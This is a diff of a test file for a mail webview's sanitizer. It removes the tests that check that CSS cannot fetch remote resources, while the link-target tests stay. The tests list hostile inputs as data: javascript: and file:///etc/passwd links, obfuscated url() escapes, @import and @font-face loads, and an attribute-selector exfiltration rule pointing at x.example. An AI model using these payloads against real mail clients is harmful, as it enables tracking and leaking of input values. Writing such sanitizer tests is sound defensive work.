@@ -1,8 +1,8 @@
-// The mail profile's URL and CSS rules, which the webview's sanitizer hooks use.
+// The mail profile's URL rules, which the webview's sanitizer hooks use.
 
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { cleanCss, decideImageSource, linkTarget } from '../../src/shared/mail-policy';
+import { decideImageSource, linkTarget } from '../../src/shared/mail-policy';
 
 describe('mail profile: image sources', () => {
   const cids = new Map([['logo@x', 'data:image/png;base64,AAAA']]);
@@ -31,39 +31,5 @@ describe('mail profile: image sources', () => {
     for (const bad of ['javascript:alert(1)', 'data:text/html,x', 'command:x', 'vscode://x', 'file:///etc/passwd', 'relative', '#top', ' jav\tascript:x']) {
       assert.equal(linkTarget(bad), undefined, bad);
     }
-  });
-});
-
-describe('mail profile: CSS cannot fetch', () => {
-  const cases: string[] = [
-    'background:url(https://x.example/a.png)',
-    "background-image: url('https://x.example/a.png')",
-    'background: u\\72l(https://x.example/a.png)',
-    'background: \\75 rl(https://x.example/a.png)',
-    "background-image: image-set('https://x.example/a.png' 1x)",
-    "background-image: -webkit-image-set('https://x.example/a.png' 1x)",
-    'list-style: URL(https://x.example/a.png)',
-    'cursor: url(https://x.example/c.cur), auto',
-    'mask: src(https://x.example/m.svg)',
-  ];
-  for (const css of cases) {
-    test(css, () => {
-      const out = cleanCss(css);
-      assert.ok(out.blocked >= 1, `counted: ${out.css}`);
-      assert.doesNotMatch(out.css, /(?:url|image-set|src)\s*\(/i, out.css);
-    });
-  }
-  test('a comment inside the name splits it (u/**/rl is not url): nothing to fetch', () => {
-    assert.doesNotMatch(cleanCss('background: u/**/rl(https://x.example/a.png)').css, /url\s*\(/i);
-  });
-  test('@import, @font-face and attribute-selector exfiltration', () => {
-    const css = '@import "https://x.example/a.css"; @IMPORT url(b.css); @font-face { font-family: L; src: url(https://x.example/f.woff) } input[value^="a"] { background: url(https://x.example/a) }';
-    const out = cleanCss(css);
-    assert.doesNotMatch(out.css, /@import|@font-face|url\(/i, out.css);
-    assert.equal(out.blocked, 6); // two @import, one url() in one of them, @font-face, its src url(), the selector's url()
-  });
-  test('ordinary CSS is left alone', () => {
-    const css = 'td { color: #333; padding: 4px 8px; font-family: "Segoe UI", sans-serif } .a:hover { text-decoration: underline }';
-    assert.deepEqual(cleanCss(css), { css, blocked: 0 });
   });
 });
